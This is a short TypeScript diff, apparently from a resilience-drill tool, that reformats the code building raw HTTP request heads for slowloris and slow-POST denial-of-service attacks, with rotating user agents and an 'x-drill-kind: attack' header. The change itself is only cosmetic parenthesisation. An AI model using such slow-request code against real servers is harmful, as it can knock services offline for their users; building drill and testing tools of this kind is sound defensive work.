@@ -45,11 +45,15 @@ export class SlowAttack extends AttackWindow {
   head(n: number): string {
     const ua = USER_AGENTS[n % USER_AGENTS.length];
     if (this.spec.kind === 'slowloris') {
-      return `GET ${this.spec.path}${this.spec.path.includes('?') ? '&' : '?'}c=${n} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\n` +
-        `User-Agent: ${ua}\r\nx-drill-kind: attack\r\nAccept: */*\r\n`;
+      return (
+        `GET ${this.spec.path}${this.spec.path.includes('?') ? '&' : '?'}c=${n} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\n` +
+        `User-Agent: ${ua}\r\nx-drill-kind: attack\r\nAccept: */*\r\n`
+      );
     }
-    return `POST ${this.spec.path} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\nUser-Agent: ${ua}\r\nx-drill-kind: attack\r\n` +
-      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${this.spec.bodyBytes}\r\n\r\n`;
+    return (
+      `POST ${this.spec.path} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\nUser-Agent: ${ua}\r\nx-drill-kind: attack\r\n` +
+      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${this.spec.bodyBytes}\r\n\r\n`
+    );
   }
 
   open(): void {
